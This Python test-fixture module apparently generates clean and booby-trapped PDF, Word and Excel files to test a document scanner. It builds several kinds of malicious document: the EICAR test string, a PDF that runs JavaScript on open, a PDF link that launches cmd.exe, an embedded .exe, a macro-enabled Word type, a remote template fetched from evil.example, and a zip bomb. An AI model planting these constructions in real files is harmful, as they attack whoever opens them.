"""Files that are what they say, and files that are not."""

from __future__ import annotations

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pikepdf
from docx import Document
from openpyxl import Workbook

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def a_pdf(text: str = "A plan") -> bytes:
    """One empty page with a title."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.docinfo["/Title"] = text
        return saved(pdf)


def pdf_with_script() -> bytes:
    """Runs JavaScript when it is opened."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        return saved(pdf)


def pdf_with_launch() -> bytes:
    """A link on the page that starts a program, three dictionaries deep."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        page.obj.Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action)])
        return saved(pdf)


def pdf_with_file() -> bytes:
    """Carries another file inside."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.attachments["inside.exe"] = pikepdf.AttachedFileSpec(
            pdf, b"MZ", description="", filename="inside.exe", mime_type="", creation_date="", mod_date=""
        )
        return saved(pdf)


def pdf_with_password() -> bytes:
    """Asks for a password."""
    out = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def a_docx() -> bytes:
    """A Word file with a line of text."""
    out, document = BytesIO(), Document()
    document.add_paragraph("A letter")
    document.save(out)
    return out.getvalue()


def an_xlsx() -> bytes:
    """A workbook with one number."""
    out, book = BytesIO(), Workbook()
    book.worksheets[0]["A1"] = 1
    book.save(out)
    return out.getvalue()


def with_part(archive: bytes, name: str, content: bytes, *, stored: bool = False) -> bytes:
    """The archive with one part more (or another in its place)."""
    out = BytesIO()
    with ZipFile(BytesIO(archive)) as source, ZipFile(out, "w", ZIP_DEFLATED) as target:
        for part in source.namelist():
            if part != name:
                target.writestr(part, source.read(part))
        target.writestr(name, content, compress_type=ZIP_STORED if stored else ZIP_DEFLATED)
    return out.getvalue()


def docx_with_macros_by_type() -> bytes:
    """Says in its content types that it may run macros."""
    types = ZipFile(BytesIO(a_docx())).read("[Content_Types].xml")
    wordy = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return with_part(a_docx(), "[Content_Types].xml", wordy)


def docx_that_fetches(mode: bytes = b'TargetMode="External"', kind: bytes = b"attachedTemplate") -> bytes:
    """Takes its template from elsewhere; ``mode`` is how the attribute is written."""
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        + kind
        + b'" Target="http://evil.example/a.dotm" '
        + mode
        + b"/></Relationships>"
    )
    return docx_with_relationships(rels)


def docx_with_relationships(text: bytes) -> bytes:
    """A Word file that says this of what its settings point to."""
    return with_part(a_docx(), "word/_rels/settings.xml.rels", text)


def docx_bomb() -> bytes:
    """Fifty million noughts in a part that packs to nothing."""
    return with_part(a_docx(), "word/media/bomb.bin", b"\0" * 50_000_000)


def saved(pdf: pikepdf.Pdf) -> bytes:
    """The PDF's bytes."""
    out = BytesIO()
    pdf.save(out, deterministic_id=True)
    return out.getvalue()
